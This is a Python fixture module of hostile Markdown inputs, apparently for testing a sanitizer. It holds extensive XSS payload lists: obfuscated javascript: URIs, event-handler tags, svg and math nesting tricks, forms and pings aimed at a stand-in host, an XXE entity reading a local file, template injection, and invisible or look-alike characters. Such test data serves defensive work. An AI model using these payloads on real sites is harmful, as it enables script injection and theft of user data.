"""What somebody could write in order to act on a reader. Each input is Markdown, as it would stand in a page.

The spellings follow the ways in which browsers read what a filter does not: case, entities, control characters,
nesting, broken tags, foreign content and parsers that disagree.
"""

from __future__ import annotations

from html import escape
from itertools import product

_SCRIPT_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#x0D;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript:%61lert(1)",
    "javascript://host.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://host.example/1",
    "file:///C:/secret.txt",
    "filesystem:https://host.example/1",
    "feed:javascript:alert(1)",
    "view-source:https://host.example/",
    "jar:https://host.example/!/x",
    "tel:+1",
    "intent://host.example/#Intent;end",
    "//host.example/x",
    "/\\host.example/x",
    "\\\\host.example\\x",
    "https:\\\\host.example",
    "https:host.example",
    "https://good.example@host.example/",
    "https://good.example&#64;host.example/",
    "https://b\u0430nk.example/",
    "https://b&#x430;nk.example/",
    "https://\u0440\u0430\u0443.example/",
    "https://bank\u2024example.test/",
    "https://bank.example\u2044login.test/",
)
_LINKS = (
    "Read [this]({}) now.",
    'Read [this]({} "title") now.',
    "Read [this](<{}>) now.",
    "![picture]({})",
    "Read [this][one] now.\n\n[one]: {}",
    "Read <{}> now.",
)
_REMOTE_PICTURES = (
    "http://host.example/a.png",
    "https://host.example/a.png",
    "HTTPS://host.example/a.png",
    "//host.example/a.png",
    "/\\host.example/a.png",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/svg+xml,%3Csvg onload=alert(1)%3E",
    "mailto:a@host.example",
    "https&#58;//host.example/a.png",
)
_TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//host.example/x.js></SCRIPT>",
    "<script\x0csrc=x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=//host.example/x.svg#a>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset='//host.example/a.png 2x'>",
    "<img dynsrc=//host.example/a lowsrc=//host.example/b>",
    "<picture><source srcset=//host.example/a.png></picture>",
    "<body onload=alert(1) background=//host.example/a.png>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<frameset><frame src=//host.example></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=//host.example></object>",
    "<embed src=//host.example/x.swf>",
    "<applet code=X archive=//host.example/x.jar></applet>",
    "<param name=src value=//host.example>",
    "<portal src=//host.example></portal>",
    "<base href=//host.example/>",
    "<meta http-equiv=refresh content='0;url=//host.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href=//host.example/x.css>",
    "<link rel=prefetch href=//host.example/>",
    "<link rel=dns-prefetch href=//host.example>",
    "<style>body{background:url(//host.example)}</style>",
    "<style>@import '//host.example/x.css';</style>",
    "<p style='background:url(//host.example)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//host.example><input name=p><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//host.example/a.png>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<isindex action=javascript:alert(1) type=image>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=//host.example/a.mp4 onerror=alert(1)></video>",
    "<video poster=//host.example/a.png></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<track src=//host.example>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<p popover id=x onbeforetoggle=alert(1)>x</p>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<div onclick=alert(1)>x</div>",
    "<div onanimationstart=alert(1) class=md-x>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=x ping=//host.example>x</a>",
    "<a href=x target=_blank onclick=alert(1)>x</a>",
    "<a id=__config>x</a>",
    "<a name=__md_scope href=x>x</a>",
    "<map><area href=javascript:alert(1)></map>",
    "<q cite=javascript:alert(1)>x</q>",
    "<table background=//host.example/a.png><tr><td>x</table>",
    "<bgsound src=//host.example/a.wav>",
    "<layer src=//host.example></layer>",
    "<xml src=//host.example id=x></xml>",
    "<?xml-stylesheet href=//host.example/x.css?>",
    "<?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<plaintext><script>alert(1)</script>",
    "<title><img title='</title><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=//host.example/a.png></template>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<p id='x\" onclick=alert(1) y=\"'>x</p>",
    "<p\x00onclick=alert(1)>x</p>",
    "<\x00script>alert(1)</script>",
    "<p/onclick=alert(1)//>x</p>",
    "</p onclick=alert(1)>",
    "< script>alert(1)</script>",
    "<a href=x\x0bonclick=alert(1)>x</a>",
    "<!ELEMENT x ANY>",
    "<%= alert(1) %>",
)
_ATTRIBUTE_LISTS = (
    'onclick="alert(1)"',
    "ONMOUSEOVER=alert(1)",
    'style="position:fixed"',
    'id="__config"',
    'id="__md_scope"',
    'id="mermaid"',
    'id="Location"',
    'class="md-overlay"',
    ".md-search__input",
    'role="alert"',
    'role="application"',
    "popover=auto",
    "contenteditable=true",
    "autofocus=1 tabindex=1 onfocus=alert(1)",
    'data-md-component="search"',
    'data-clipboard-text="rm"',
    "name=body",
    "is=x-script",
    "slot=x",
    "nonce=x",
    "background=//host.example/a.png",
    "srcset=//host.example/a.png",
    "xlink:href=javascript:alert(1)",
    "xmlns=http://www.w3.org/2000/svg",
    'lang="en\\" onclick=alert(1)"',
    "formaction=javascript:alert(1)",
    "ping=//host.example",
    "target=_top",
    "download=x.exe",
    "http-equiv=refresh",
    "accesskey=x",
)
_ATTRIBUTE_HOSTS = (
    "A *word*{: A} here.",
    "A [link](x.md){: A} here.",
    "## Words {: A}",
    "- item\n{: A}",
)
_UNSEEN = "\u202e\u202a\u2066\u2067\u200b\u200c\u200d\u200e\u2060\ufeff\u00ad\u115f\u3164\u061c\u180e\ufe0f\u2028\x00"
_HIDDEN = tuple(
    sentence.format(spelling)
    for character in (*_UNSEEN, "\U000e0041", "\ue0a0")
    for spelling in (character, f"&#{ord(character)};", f"&#x{ord(character):X};")
    for sentence in ("A wo{}rd here.", "He said “slow b{}ut safe in any weather” [@gazette, ¶3].")
    # Not even HTML lets a reference stand for it.
    if not (character == "\x00" and spelling != character)
)
_LOOK_ALIKE = (
    "The b\u0430nk said so.",
    "The \u0410pril date.",
    "The p\u03bfrt is wide.",
    "A sh\u0456p.",
)


def _addressed() -> list[str]:
    """Return each address in each kind of link; a bare address in angle brackets must have no space."""
    pairs = product(_SCRIPT_ADDRESSES, _LINKS)
    return [form.format(address) for address, form in pairs]


KINDS: dict[str, tuple[str, ...]] = {
    "an address": tuple(_addressed()),
    "a picture from elsewhere": tuple(f"![picture]({address})" for address in _REMOTE_PICTURES),
    "raw HTML": tuple(f"A word {tag} here." for tag in _TAGS),
    "a block of raw HTML": _TAGS,
    "HTML in a table": tuple(f"| a | b |\n|---|---|\n| {tag} | c |" for tag in _TAGS),
    "HTML in a list": tuple(f"- {tag}" for tag in _TAGS),
    "HTML in a quotation": tuple(f"> {tag}" for tag in _TAGS),
    "HTML in a heading": tuple(f"## Words {tag}" for tag in _TAGS),
    "an attribute": tuple(
        host.replace("A}", f"{attribute}}}")
        for attribute, host in product(_ATTRIBUTE_LISTS, _ATTRIBUTE_HOSTS)
    ),
    "a heading's label": tuple(
        f"## Words {{: data-toc-label='{tag}'}}" for tag in _TAGS if "'" not in tag
    ),
    "a character that nobody sees": _HIDDEN,
    "a letter that looks like another": _LOOK_ALIKE,
    # Harmless as it stands: it must end as text and never come alive by being unescaped once more.
    "text that was escaped": tuple(escape(tag) for tag in _TAGS if tag.isprintable()),
    "code": tuple(f"Write `{tag}` so." for tag in _TAGS if tag.isprintable() and "`" not in tag),
}
"""Inputs by what they try."""
HARMLESS = ("text that was escaped", "code")
"""Kinds that a page may hold, because they are text."""
FIELDS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% include 'main.html' %}",
    "<!-- --><svg onload=alert(1)>",
)
"""What somebody could write into a field of a record or of a page's front matter."""
